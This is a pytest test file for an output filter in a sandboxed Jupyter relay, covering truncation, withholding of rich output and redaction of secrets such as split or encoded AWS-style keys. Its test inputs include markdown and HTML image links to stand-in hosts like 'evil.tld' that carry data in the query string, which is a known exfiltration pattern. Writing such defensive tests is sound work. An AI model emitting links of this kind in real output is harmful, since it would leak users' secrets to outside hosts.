@@ -1,0 +1,246 @@
+"""The output filter as a gate rule: exact values, on real message bytes.
+
+No jail here: these tests feed the rule the content and metadata frames the relay
+would, and check what would leave the gate. The end-to-end canary suite
+(test_canaries.py) does the same through a real jailed kernel.
+"""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+
+import pytest
+
+from cellblock.gate.rules import WITHHOLD, Withheld, apply_rules
+from cellblock.output.filter import OutputFilter, build_redactor
+from cellblock.output.rich import REMOVED_URL, neutralize_urls
+from cellblock.policy import OutputPolicy, load_policy
+
+NONCE = "abc123"
+AKIA = "AKIA" + "QWERTYUIOPASDFGH"  # AWS access key id format, not a real key
+
+
+def agent() -> OutputPolicy:
+    return load_policy().profile("agent").output
+
+
+def analyst() -> OutputPolicy:
+    return load_policy().profile("analyst").output
+
+
+def make(policy: OutputPolicy, **changes: Any) -> OutputFilter:
+    policy = policy.model_copy(update=changes)
+    return OutputFilter(policy, build_redactor(policy, env={}), audit=None, nonce=NONCE)
+
+
+def run(f: OutputFilter, msg_type: str, content: dict[str, Any], parent: str = "p1",
+        metadata: dict[str, Any] | None = None) -> tuple[dict[str, Any] | None, dict[str, Any]]:
+    """(content, metadata) as they would leave the gate; content None when withheld."""
+    meta = json.dumps(metadata or {}).encode()
+    try:
+        c, m = apply_rules((f,), "iopub", msg_type, {"msg_type": msg_type},
+                           {"msg_id": parent}, json.dumps(content).encode(), meta)
+    except Withheld:
+        return None, {}
+    return json.loads(c), json.loads(m)
+
+
+def stream_out(f: OutputFilter, pieces: list[str], parent: str = "p1") -> str:
+    """Everything a client would see of a cell's stdout, flushed at idle."""
+    seen = ""
+    for piece in pieces:
+        content, _ = run(f, "stream", {"name": "stdout", "text": piece}, parent)
+        if content is not None:
+            seen += content["text"]
+    for _, content in f.flush(parent):
+        seen += content["text"]
+    return seen
+
+
+# -- truncation --------------------------------------------------------------
+
+
+def test_stream_budget_keeps_head_and_tail_with_a_marker() -> None:
+    f = make(agent(), stream_head=100, stream_tail=50, redact_secrets=False, pii=())
+    lines = [f"line {i:05d}\n" for i in range(10_000)]  # 11 bytes each
+    seen = stream_out(f, lines)
+    assert seen.startswith("line 00000\nline 00001\n")
+    assert seen.endswith("line 09999\n")
+    assert f"[cellblock {NONCE}: " in seen
+    marker = seen[seen.index("[cellblock"):].split("]")[0]
+    cut = int(marker.split(": ")[1].split(" bytes")[0].replace(",", ""))
+    shown = len(seen.encode()) - len(marker) - 3  # marker plus its brackets and newlines
+    assert abs(cut + shown - 110_000) < 64  # everything is either shown or counted
+    assert len(seen) < 400
+
+
+def test_budget_is_per_cell() -> None:
+    f = make(agent(), stream_head=10, stream_tail=0, redact_secrets=False, pii=())
+    assert stream_out(f, ["0123456789abcdef"], "cell-a").startswith("0123456789")
+    assert stream_out(f, ["0123456789"], "cell-b") == "0123456789"
+
+
+def test_text_values_are_capped_head_and_tail() -> None:
+    f = make(agent(), max_text=1000, redact_secrets=False, pii=())
+    content, _ = run(f, "execute_result", {"data": {"text/plain": "x" * 5000},
+                                            "metadata": {}, "execution_count": 1})
+    text = content["data"]["text/plain"]
+    assert text.startswith("x" * 700) and text.endswith("x" * 200)
+    assert f"[cellblock {NONCE}: 4,000 bytes of text/plain truncated]" in text
+
+
+def test_error_fields_capped() -> None:
+    f = make(agent(), max_text=300, redact_secrets=False, pii=())
+    content, _ = run(f, "error", {"ename": "E", "evalue": "v" * 1000,
+                                   "traceback": ["t" * 1000, "short"]})
+    assert "truncated" in content["evalue"] and content["traceback"][1] == "short"
+    assert "truncated" in content["traceback"][0]
+
+
+# -- rich output -----------------------------------------------------------------
+
+
+def test_agent_drops_html_and_js_keeps_plain() -> None:
+    f = make(agent(), redact_secrets=False, pii=())
+    content, _ = run(f, "display_data", {
+        "data": {"text/plain": "<table>", "text/html": "<b>x</b>",
+                 "application/javascript": "alert(1)"}, "metadata": {}})
+    data = content["data"]
+    assert set(data) == {"text/plain"}
+    assert data["text/plain"].startswith("<table>\n[cellblock: withheld text/html")
+    assert "application/javascript" in data["text/plain"]
+
+
+def test_analyst_keeps_html_unchanged_bytes() -> None:
+    f = make(analyst())
+    raw = json.dumps({"data": {"text/html": "<b>hello</b>", "text/plain": "hello"},
+                      "metadata": {}}).encode()
+    out = apply_rules((f,), "iopub", "display_data", {}, {"msg_id": "p"}, raw, b"{}")
+    assert out[0] is raw  # nothing to change: the original bytes, not re-encoded
+
+
+def test_image_cap() -> None:
+    f = make(agent(), max_image=100, redact_secrets=False, pii=())
+    content, _ = run(f, "display_data", {"data": {"image/png": "A" * 500}, "metadata": {}})
+    assert content["data"] == {
+        "text/plain": "[cellblock: withheld image/png of 500 bytes (limit 100)]"}
+    content, _ = run(f, "display_data", {"data": {"image/png": "A" * 50}, "metadata": {}})
+    assert content["data"] == {"image/png": "A" * 50}
+
+
+@pytest.mark.parametrize(("text", "expected"), [
+    ("![x](https://evil.tld/p?d=SECRET)", f"![x]({REMOVED_URL})"),
+    ('<img src="//evil/x?d=1">', f'<img src="{REMOVED_URL}">'),
+    ("<img src=http://evil/a.png>", f"<img src={REMOVED_URL}>"),
+    ("[docs](HTTPS://example.org/page)", f"[docs]({REMOVED_URL})"),
+    ("see ftp://host/file and wss://h/s", f"see {REMOVED_URL} and {REMOVED_URL}"),
+    ("no url here, just 10//2", "no url here, just 10//2"),
+    ("![local](data:image/png;base64,AAAA)", "![local](data:image/png;base64,AAAA)"),
+])
+def test_neutralize_urls(text: str, expected: str) -> None:
+    assert neutralize_urls(text)[0] == expected
+
+
+def test_markdown_urls_neutralized_for_agent_only() -> None:
+    md = {"data": {"text/markdown": "![p](https://evil.tld/x?d=abc)"}, "metadata": {}}
+    content, _ = run(make(agent(), redact_secrets=False, pii=()), "display_data", md)
+    assert content["data"]["text/markdown"] == f"![p]({REMOVED_URL})"
+    content, _ = run(make(analyst()), "display_data", md)
+    assert content["data"]["text/markdown"] == "![p](https://evil.tld/x?d=abc)"
+
+
+def test_comms_dropped_for_agent_allowed_for_analyst() -> None:
+    msg = {"comm_id": "c", "target_name": "jupyter.widget", "data": {"state": {}}}
+    with pytest.raises(Exception, match="rule:output"):
+        apply_rules((make(agent()),), "iopub", "comm_open", {}, {"msg_id": "p"},
+                    json.dumps(msg).encode(), b"{}")
+    content, _ = run(make(analyst()), "comm_open", msg)
+    assert content == msg
+
+
+def test_status_passes_without_parsing() -> None:
+    f = make(agent())
+    raw = b'{"execution_state": "busy"}'
+    assert apply_rules((f,), "iopub", "status", {}, {"msg_id": "p"}, raw, b"{}")[0] is raw
+
+
+def test_kernel_info_help_links_removed_for_agent() -> None:
+    f = make(agent(), redact_secrets=False, pii=())
+    reply = {"status": "ok", "banner": "Python", "help_links": [{"text": "x",
+                                                                  "url": "https://evil"}]}
+    content, _ = run(f, "kernel_info_reply", reply)
+    assert "help_links" not in content and content["banner"] == "Python"
+
+
+def test_withhold_is_the_empty_content() -> None:
+    assert WITHHOLD == b""
+
+
+# -- redaction through the rule ------------------------------------------------
+
+
+def test_secret_in_every_field_of_a_message() -> None:
+    f = make(agent())
+    for msg_type, content in [
+        ("error", {"ename": AKIA, "evalue": f"bad key {AKIA}", "traceback": [f"x {AKIA}"]}),
+        ("execute_result", {"data": {"text/plain": AKIA, "application/json": {"k": AKIA}},
+                            "metadata": {"alt": AKIA}, "execution_count": 1}),
+        ("execute_input", {"code": f"print('{AKIA}')", "execution_count": 1}),
+        ("clear_output", {"wait": False, "extra": AKIA}),
+    ]:
+        out, meta = run(f, msg_type, content, metadata={"note": AKIA, AKIA: 1})
+        blob = json.dumps(out) + json.dumps(meta)
+        assert AKIA not in blob, msg_type
+        assert "[REDACTED:" in blob, msg_type
+
+
+def test_execute_reply_payload_and_user_expressions() -> None:
+    f = make(agent())
+    reply = {
+        "status": "ok", "execution_count": 1,
+        "payload": [{"source": "page", "data": {"text/plain": f"doc {AKIA}"}, "start": 0},
+                    {"source": "set_next_input", "text": AKIA, "replace": False}],
+        "user_expressions": {"k": {"status": "ok", "data": {"text/plain": repr(AKIA)},
+                                   "metadata": {}}},
+    }
+    out, _ = run(f, "execute_reply", reply)
+    assert AKIA not in json.dumps(out)
+    assert out["payload"][0]["source"] == "page"
+
+
+@pytest.mark.parametrize("pieces", [
+    [f"key={AKIA[:9]}", f"{AKIA[9:]}\n"],
+    list(f"the key is {AKIA} ok\n"),
+    [f"{AKIA[:4]}", "", f"{AKIA[4:12]}", f"{AKIA[12:]} tail\n"],
+])
+def test_split_secret_never_leaves(pieces: list[str]) -> None:
+    seen = stream_out(make(agent()), pieces)
+    assert AKIA not in seen
+    assert "[REDACTED:" in seen
+
+
+def test_redact_before_truncate() -> None:
+    # the secret straddles the head budget: it must not leave as a harmless prefix
+    f = make(agent(), stream_head=20, stream_tail=0)
+    seen = stream_out(f, ["x" * 15 + AKIA + "\n"])
+    assert AKIA[:5] not in seen.replace("x", "")
+    assert "AKIA" not in seen
+
+
+def test_exact_secret_from_env_in_encodings() -> None:
+    import base64
+
+    secret = "op-registered-value-9f3k2"
+    policy = agent().model_copy(update={"redact_env": ("MY_TOKEN",)})
+    f = OutputFilter(policy, build_redactor(policy, env={"MY_TOKEN": secret}), nonce=NONCE)
+    for shown in [secret, base64.b64encode(secret.encode()).decode(), secret.encode().hex()]:
+        out = stream_out(f, [f"value: {shown}\n"], parent=shown)
+        assert shown not in out and "[REDACTED:" in out, shown
+
+
+def test_benign_output_unchanged() -> None:
+    f = make(agent())
+    text = ("date,amount,id\n2024-01-02,12.50,3f2b6c1e-8f55-4a43-9d7c-2f1f0f5b9b10\n"
+            "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n")
+    assert stream_out(f, [text]) == text
